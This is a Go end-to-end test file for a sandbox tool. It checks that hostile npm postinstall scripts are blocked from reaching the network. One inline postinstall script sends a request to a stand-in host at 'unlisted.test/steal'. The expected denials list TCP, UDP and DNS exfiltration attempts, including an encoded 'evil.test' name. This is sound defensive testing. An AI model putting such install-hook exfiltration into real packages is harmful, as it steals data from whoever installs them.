package e2e

import (
	_ "embed"
	"errors"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/fractalboxdev/sbx/internal/event"
	"github.com/fractalboxdev/sbx/internal/sbxtest"
)

//go:embed testdata/attack.js
var attack string

// inHome writes a file of the user's below his home.
func inHome(t *testing.T, lab *sbxtest.Lab, who sbxtest.User, name, text string) string {
	t.Helper()
	path := filepath.Join(lab.Home(who), name)
	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o600)); err != nil {
		t.Fatal(err)
	}
	for at := path; at != lab.Home(who); at = filepath.Dir(at) {
		if err := os.Chown(at, lab.UID(who), -1); err != nil {
			t.Fatal(err)
		}
	}
	return path
}

// An install whose scripts are hostile ends as npm decides, and gives nothing
// away; four rows say what was tried.
func TestHostileInstallGivesNothingAway(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Serve("unlisted.test", http.HandlerFunc(leak))
	registry := lab.ServeNPM(t, "npm.test", sbxtest.Package{
		Name: "hostile", Version: "1.0.0",
		Scripts: map[string]string{"postinstall": "node attack.js"},
		Files:   map[string]string{"attack.js": attack},
	})
	everyone(t, func(t *testing.T, who sbxtest.User) {
		inHome(t, lab, who, ".npmrc", "registry=https://npm.test/\n")
		lab.Write(who, "package.json", `{"name": "root", "version": "1.0.0", "dependencies": {"hostile": "1.0.0"}}`)
		bare := func(args ...string) sbxtest.Result {
			cmd := lab.Command(t, who, args...)
			cmd.Env = append(cmd.Env, "NODE_EXTRA_CA_CERTS="+lab.CA(), "npm_config_audit=false", "npm_config_update_notifier=false")
			return lab.RunCommand(t, who, cmd)
		}
		succeeded(t, bare("npm", "install", "--package-lock-only"))
		before := watching(lab)
		outside := bare("npm", "ci", "--foreground-scripts")
		says(t, outside.Stdout, "attack https: 200", "attack datagram: sent")
		if n := len(lab.Dials()) - before.dials; n < 4 {
			t.Fatalf("the attack does not work outside: %d dials\n%s", n, outside.Stdout)
		}

		before = watching(lab)
		got := run(t, lab, who, "--profile", "js-install", "--", "npm", "ci", "--foreground-scripts")
		if got.Exit != outside.Exit {
			t.Errorf("exit status %d, outside %d: %s", got.Exit, outside.Exit, got.Stderr)
		}
		says(t, got.Stdout, "attack https: 520", "attack address: ", "attack datagram: E", "attack name: ")
		onlyTo(t, before, registry)
		fourRows(t, got)
	})
}

// onlyTo fails the test when anything but connections to the server left.
func onlyTo(t *testing.T, w watch, server *sbxtest.Server) {
	t.Helper()
	dials := w.lab.Dials()[w.dials:]
	if len(dials) == 0 {
		t.Error("the registry was not asked")
	}
	for _, d := range dials {
		if d.Protocol != "tcp" || !slices.Contains(server.Addrs, d.To.Addr()) || d.To.Port() != 443 {
			t.Errorf("left: %s", d)
		}
	}
	for _, name := range w.lab.Lookups()[w.lookups:] {
		if !strings.HasSuffix(name, " "+server.Name) {
			t.Errorf("asked the world's name server: %s", name)
		}
	}
}

// fourRows checks the report of the attack.
func fourRows(t *testing.T, got sbxtest.Result) {
	t.Helper()
	want := []event.Denial{
		{Host: "unlisted.test", Method: "GET", Path: "/steal", Source: event.SourceGate, Code: "host-not-granted", Protocol: "https", Port: 443},
		{Host: "11.22.33.200", Source: event.SourceGate, Code: "host-not-granted", Protocol: "tcp", Port: 9999},
		{Host: "11.22.33.201", Source: event.SourceNet, Code: "udp", Protocol: "udp", Port: 5555},
		{Host: "c3RvbGVu.evil.test", Source: event.SourceDNS, Code: "name-ungranted", Protocol: "dns"},
	}
	rows := got.Denials(t)
	if len(rows) != len(want) {
		t.Errorf("%d rows, want %d", len(rows), len(want))
	}
	for _, w := range want {
		i := slices.IndexFunc(rows, func(d event.Denial) bool { return strings.EqualFold(d.Host, w.Host) })
		if i < 0 {
			t.Errorf("no row for %s in %+v", w.Host, rows)
			continue
		}
		r := rows[i]
		if r.Source != w.Source || r.Protocol != w.Protocol || r.Port != w.Port || r.Method != w.Method || r.Path != w.Path || !strings.Contains(r.Code, w.Code) {
			t.Errorf("row is %+v, want %+v", r, w)
		}
		plausible(t, r, got)
		says(t, strings.ToLower(got.Stderr), strings.ToLower(w.Host))
	}
}

// Packages may hold what would be protected in the project itself, and an install can
// be cut in two: the download with the registry, the scripts with nothing.
func TestBypass77b_NamesInModulesAndTwoPhases(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Serve("unlisted.test", http.HandlerFunc(leak))
	registry := lab.ServeNPM(t, "npm.test", sbxtest.Package{
		Name: "odd", Version: "1.0.0",
		Scripts: map[string]string{"postinstall": "node build.js"},
		Files: map[string]string{
			"build.js":            "require('fs').writeFileSync('built', 'yes'); require('https').get('https://unlisted.test/steal', r => console.log('status ' + r.statusCode)).on('error', e => console.log('error ' + e.code))",
			".idea/workspace.xml": "<x/>", ".env": "A=b", ".vscode/settings.json": "{}", ".github/workflows/x.yml": "on: push",
		},
	})
	everyone(t, func(t *testing.T, who sbxtest.User) {
		inHome(t, lab, who, ".npmrc", "registry=https://npm.test/\n")
		lab.Write(who, "package.json", `{"name": "root", "version": "1.0.0", "dependencies": {"odd": "1.0.0"}}`)
		before := watching(lab)
		got := shell(t, lab, who, "npm install --ignore-scripts --no-audit --no-fund && cd node_modules/odd && cat .idea/workspace.xml .env .vscode/settings.json .github/workflows/x.yml && ls built 2>&1; true", "--profile", "js-install")
		succeeded(t, got)
		says(t, got.Stdout, "<x/>A=b{}on: push", "No such file")
		onlyTo(t, before, registry)
		if rows := got.Denials(t); len(rows) != 0 {
			t.Errorf("the download was denied something: %+v", rows)
		}

		dials := len(lab.Dials())
		got = shell(t, lab, who, "npm rebuild --no-update-notifier --foreground-scripts && cat node_modules/odd/built")
		succeeded(t, got)
		says(t, got.Stdout, "status 520", "yes")
		if d := onlyDenial(t, got); d.Host != "unlisted.test" || d.Path != "/steal" {
			t.Errorf("%+v", d)
		}
		if n := len(lab.Dials()) - dials; n != 0 {
			t.Errorf("the scripts made %d connections", n)
		}
		// A global install goes to the private home, and away with it.
		got = shell(t, lab, who, "npm install -g --prefix ~/global --ignore-scripts --no-audit odd && ls ~/global/lib/node_modules", "--profile", "js-install")
		succeeded(t, got)
		says(t, got.Stdout, "odd")
		if _, err := os.Stat(filepath.Join(lab.Home(who), "global")); !os.IsNotExist(err) {
			t.Errorf("a global install left something in the caller's home: %v", err)
		}
	})
}
